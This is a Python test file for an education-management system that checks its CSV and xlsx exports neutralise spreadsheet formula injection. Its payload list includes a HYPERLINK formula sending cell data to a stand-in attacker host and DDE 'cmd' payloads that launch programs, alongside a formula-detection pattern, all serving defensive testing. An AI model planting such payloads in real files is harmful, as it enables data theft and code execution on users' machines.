"""Formula injection: every kind of CSV and .xlsx file the system produces is read back cell by
cell, with text that starts like a formula put wherever a user's text can reach it.

CSV: no cell may start like a formula unless it is a plain number (a numeric column's -5), and a
user's text comes back with the apostrophe that makes spreadsheet programs keep it as text.
xlsx: no cell holds a formula, a formula result or a hyperlink, and the user's text is a text cell
with its exact value.

The last test keeps it so: only hemis.common.spreadsheet may call the raw CSV/xlsx writers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import tempfile
from pathlib import Path
from types import SimpleNamespace

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import hemis
from hemis.admissions import intake_export
from hemis.admissions.queries_intake import IntakeLearner, ProgramIntake
from hemis.errors import HemisError
from hemis.imports.cast import raw_name
from hemis.imports.entities import entities, get_entity
from hemis.imports.readers import excel_column
from hemis.imports.report import Report
from hemis.imports.templates import write_template
from hemis.indicators import exports
from hemis.indicators.definitions import criteria
from hemis.indicators.opendata import OpenTable, open_frame
from hemis.indicators.queries import MatrixRow
from hemis.indicators.suppression import Suppressed
from hemis.matching import solve
from hemis.matching.io import read_problem, write_result
from hemis.payments.sandbox.state import Sandbox, Txn
from hemis.submissions.downloads import report_bytes
from hemis.submissions.jobs import issues_blob
from hemis.submissions.models import SubmissionJob
from tests.imports.samples import check, rows_frame
from tests.readback import NUMBER, csv_cells, xlsx_sheets

# The test's own oracle (OWASP's list, plus the full-width forms and leading spaces).
FORMULA_START = re.compile(r"^(?:[=+\-@＝＋－＠\t\r\n\x00]| +[=+\-@＝＋－＠])")
ID_RUN = re.compile(r"(?<![0-9])[0-9]{6}([0-9]{3})?(?=[0-9]{3}(?![0-9]))")


def is_formula_like(text: str) -> bool:
    return FORMULA_START.match(text) is not None


def neutralise(text: str) -> str:
    """What a CSV cell must hold for a text value: an apostrophe first if it starts like a
    formula."""
    return "'" + text if is_formula_like(text) else text


def mask_text(text: str) -> str:
    """A 12- or 9-digit run keeps its last 3 digits (reports mask what looks like an ID)."""
    return ID_RUN.sub(lambda m: "*" * len(m.group(0)), text)


PREFIXES = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =", "  @"]
PAYLOADS = [
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1;=2+2",
    "a;=1+1",  # a cell of its own where ';' separates fields (vi-VN Excel) unless quoted
]
_TAILS = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=24)
DANGEROUS = st.one_of(
    st.sampled_from(PAYLOADS), st.builds(str.__add__, st.sampled_from(PREFIXES), _TAILS)
)
# Starts like a formula even after an import's cleaning (which trims whitespace).
SURVIVES_CLEANING = st.builds(str.__add__, st.sampled_from(["=", "+", "@", "-"]), _TAILS)


def assert_csv_safe(data: bytes | str) -> list[list[str]]:
    """No cell a spreadsheet program would evaluate: text that starts like a formula carries the
    apostrophe; only plain numbers start with + or -."""
    rows = csv_cells(data)
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell) or NUMBER.fullmatch(cell), repr(cell)
    return rows


def assert_xlsx_safe(data: bytes) -> list[list[str]]:
    """No formula, formula result or hyperlink in any sheet; returns each sheet's text cells."""
    texts = []
    for sheet in xlsx_sheets(data):
        assert sheet.hyperlinks == 0
        for cell in sheet.cells:
            assert not cell.formula, cell
            assert cell.kind in ("s", "inlineStr", "n", "b"), cell
        texts.append(sheet.texts())
    return texts


def _column(rows: list[list[str]], name: str) -> list[str]:
    at = rows[0].index(name)
    return [r[at] for r in rows[1:]]


def _as_written(value: str | None) -> str:
    return "" if value is None else neutralise(value)


def _check_import_reports(report: Report, frame: pl.DataFrame, tmp: Path) -> None:
    issues = report.issues
    values = [v for v in issues["value"].to_list() if v is not None]
    assert any(is_formula_like(v) for v in values), "the sample should echo a dangerous value"

    # The CSV report (`hemis validate --report r.csv`) and the job's CSV download.
    report.write(tmp / "r.csv")
    for data in (
        (tmp / "r.csv").read_bytes(),
        report_bytes(_job(report, frame), "csv")[0],
    ):
        rows = assert_csv_safe(data)
        assert _column(rows, "value") == [_as_written(v) for v in issues["value"].to_list()]
        assert _column(rows, "message") == [_as_written(v) for v in issues["message"].to_list()]

    # A web job keeps no annotated copy (the upload is deleted once processed: docs/security.md).
    with pytest.raises(HemisError):
        report_bytes(_job(report, frame), "xlsx")
    # The annotated copy (`hemis validate --report r.xlsx`): the user's text is there as text,
    # verbatim (masked where it has an ID-shaped run).
    report.write(tmp / "r.xlsx")
    for data in ((tmp / "r.xlsx").read_bytes(),):
        data_sheet, issues_sheet = assert_xlsx_safe(data)
        for name in ("full_name", "sex", "student_code"):
            typed = report.data[name].to_list()[0]
            raw = report.data[raw_name(report.entity.column(name))].to_list()[0]
            shown = typed if typed is not None else raw
            assert shown is None or mask_text(shown) in data_sheet, (name, shown)
        assert set(values) <= set(issues_sheet)
        at = f"{excel_column(report.entity.names.index('gpa'))}2"
        gpa = [c for c in xlsx_sheets(data)[0].cells if c.ref == at]  # -5: still a number
        assert [(c.kind, float(c.value or "nan")) for c in gpa] == [("n", -5.0)]


def _job(report: Report, frame: pl.DataFrame) -> SubmissionJob:
    payload = io.BytesIO()
    frame.write_csv(payload)  # the upload, as an officer's program would write it
    return SubmissionJob(
        id=7,
        entity=report.entity.name,
        status="rejected",
        result={"rows": report.rows},
        error=None,
        issues=issues_blob(report.issues),
        payload=payload.getvalue(),
        filename="learners.csv",
    )


def _indicator_exports(texts: list[str]) -> None:
    first, second = criteria()[:2]
    result = SimpleNamespace(
        definition_version=1,
        numerator=-3.0,
        denominator=2.0,
        value=-1.5,
        threshold=1.0,
        status="fail",
        reason_vi=texts[4],
        reason_en=texts[5],
        threshold_verified=True,
        computed_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
    )
    unknown = SimpleNamespace(**{**vars(result), "value": None, "status": "unknown"})
    row = MatrixRow(1, texts[0], texts[1], texts[2], texts[3], {first.id: result})
    row.cells[second.id] = unknown
    rows = [row]
    long = exports.long_frame(rows, 2025)
    cells = assert_csv_safe(exports.to_bytes(long, "csv", rows, 2025))
    assert _column(cells, "Tên cơ sở đào tạo") == [neutralise(texts[1])] * 2
    assert _column(cells, "Lý do") == [neutralise(texts[4])] * 2
    assert _column(cells, "Giá trị") == ["-1.5", ""]  # a negative number stays a number
    (matrix, _definitions) = assert_xlsx_safe(exports.workbook(rows, 2025))
    assert {texts[0], texts[1]} <= set(matrix)

    table = OpenTable(
        "t",
        texts[0],
        texts[1],
        [texts[2]],
        [texts[3]],
        Suppressed([[7]], [7], [7], 7),
    )
    (sheet,) = assert_xlsx_safe(exports.open_workbook([table], 2025))
    assert {texts[2], texts[3]} <= set(sheet)
    cells = assert_csv_safe(exports.to_bytes(open_frame([table]), "csv", [], 2025))
    assert neutralise(texts[2]) in _column(cells, "row")


def _intake_export(texts: list[str]) -> None:
    learner = IntakeLearner(
        person_id=1,
        full_name=texts[0],
        candidate_number=texts[1],
        offer_code=texts[2],
        program_code=texts[3],
        round_number=1,
        round_kind="final",
        method=None,
        score_h=-150,  # a number stays a number, whatever its sign
        confirmed_at=dt.datetime(2025, 8, 20, 3, 0, tzinfo=dt.UTC),
        student_code=texts[4],
        status=None,
    )
    program = ProgramIntake(1, texts[2], texts[5], texts[3], 1, 1, 1, 1)
    rows = assert_csv_safe(intake_export.to_bytes("csv", 2025, [program], [learner]))
    assert _column(rows, "Họ và tên") == [neutralise(texts[0])]
    assert _column(rows, "Số báo danh") == [neutralise(texts[1])]
    assert _column(rows, "Điểm xét tuyển") == ["-1.5"]
    workbook = intake_export.to_bytes("xlsx", 2025, [program], [learner])
    by_program, learners = assert_xlsx_safe(workbook)
    assert {texts[2], texts[5]} <= set(by_program)
    assert {texts[0], texts[1], texts[4]} <= set(learners)


def _settlement(texts: list[str]) -> None:
    box = Sandbox("TMNCODE1", "secret", "http://127.0.0.1:9/ipn")
    box.txns["r"] = Txn(
        txn_ref=texts[0],
        amount=15_000,
        order_info="",
        return_url="",
        create_date="20250729080000",
        status="paid",
        transaction_no=texts[1],
        bank_code=texts[2],
        card_type=texts[3],
        pay_date="20250729080000",
    )
    rows = assert_csv_safe(box.settlement_csv("20250729"))
    assert rows[1] == [neutralise(t) for t in texts[:2]] + [
        "15000",
        "20250729080000",
        neutralise(texts[2]),
        neutralise(texts[3]),
        "paid",
    ]


def _matching(texts: list[str], tmp: Path) -> None:
    candidates = [f"{texts[0]}", f"{texts[1]}|2"]
    with (tmp / "WISHES.csv").open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["candidate_id", "rank", "program_id", "score"])
        writer.writerows([[candidates[0], 1, texts[2], 27], [candidates[1], 1, texts[2], 26]])
    with (tmp / "PROGRAMS.csv").open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["program_id", "quota"], [texts[2], 1]])
    loaded = read_problem(tmp / "PROGRAMS.csv", tmp / "WISHES.csv")
    assignments, cutoffs = write_result(loaded, solve(loaded.problem), tmp / "out")
    rows = assert_csv_safe(assignments.read_bytes())
    expected = [neutralise(c) for c in loaded.candidate_ids.to_list()]
    assert _column(rows, "candidate_id") == expected
    assert neutralise(loaded.program_ids[0]) in _column(
        assert_csv_safe(cutoffs.read_bytes()), "program_id"
    )


@settings(max_examples=25, suppress_health_check=[HealthCheck.too_slow])
@given(
    sex=SURVIVES_CLEANING,
    others=st.lists(DANGEROUS, min_size=6, max_size=6),
)
def test_no_produced_file_holds_a_live_formula(sex: str, others: list[str]) -> None:
    with tempfile.TemporaryDirectory(prefix="hemis-formula-") as tmp:
        overrides = {"sex": sex, "full_name": others[0], "student_code": others[1], "gpa": "-5"}
        report = check("learners", [overrides])
        _check_import_reports(report, rows_frame("learners", [overrides]), Path(tmp))
        _indicator_exports(others)
        _intake_export(others)
        _settlement(others)
        _matching(others, Path(tmp))


def test_templates_hold_no_formula_cell(tmp_path: Path) -> None:
    for name in entities():
        for fmt in ("csv", "xlsx"):
            path = tmp_path / f"{name}.{fmt}"
            write_template(get_entity(name), fmt, path)
            if fmt == "csv":
                header = assert_csv_safe(path.read_bytes())[0]
                assert header == list(get_entity(name).names)
            else:
                first, *_ = assert_xlsx_safe(path.read_bytes())
                assert first[: len(get_entity(name).names)] == list(get_entity(name).names)


# --- only the helper writes spreadsheets ---------------------------------------------------------

SRC = Path(hemis.__file__).resolve().parent  # the code the tests import
HELPER = "common/spreadsheet.py"
RAW_WRITERS = re.compile(
    r"\.(?:write_csv|sink_csv|write_excel|to_csv|to_excel)\("
    r"|\b(?:import|from) (?:xlsxwriter|openpyxl|xlwt|pyexcelerate)\b|\bxlsxwriter\.Workbook\b"
    r"|\bcsv\.(?:writer|DictWriter)\("
    r"|\.write_(?:formula|array_formula|dynamic_array_formula|url)\("
)
# CSV that no person opens: rows streamed into PostgreSQL's COPY and the text a digest hashes.
MACHINE_ONLY = {
    "bulk.py": 2,  # COPY … FROM STDIN (FORMAT csv) and the bulk load's digest
    "admissions/frames.py": 1,  # COPY … FROM STDIN (FORMAT csv)
    "submissions/apply.py": 1,  # the SHA-256 of the rows an import wrote
    "demo/competency.py": 1,  # the SHA-256 that tells whether the demo's assessments changed
}


def test_only_the_helper_calls_the_raw_writers() -> None:
    found: dict[str, int] = {}
    for path in sorted(SRC.rglob("*.py")):
        name = path.relative_to(SRC).as_posix()
        if name == HELPER:
            continue
        lines = [
            line
            for line in path.read_text(encoding="utf-8").splitlines()
            if RAW_WRITERS.search(line) and not line.lstrip().startswith("#")
        ]
        if lines:
            found[name] = len(lines)
    assert found == MACHINE_ONLY, (
        "CSV and xlsx for people are written through hemis.common.spreadsheet; a file only a "
        "machine reads is listed in MACHINE_ONLY with the reason"
    )


@given(st.lists(st.one_of(DANGEROUS, _TAILS), max_size=20))
def test_the_helper_agrees_with_the_oracle_in_python_and_in_polars(samples: list[str]) -> None:
    from hemis.common import spreadsheet

    frame = pl.DataFrame({"t": samples}, schema={"t": pl.String})
    expected = [neutralise(s) for s in samples]
    assert spreadsheet.neutralise_frame(frame)["t"].to_list() == expected
    assert [spreadsheet.neutralise(s) for s in samples] == expected
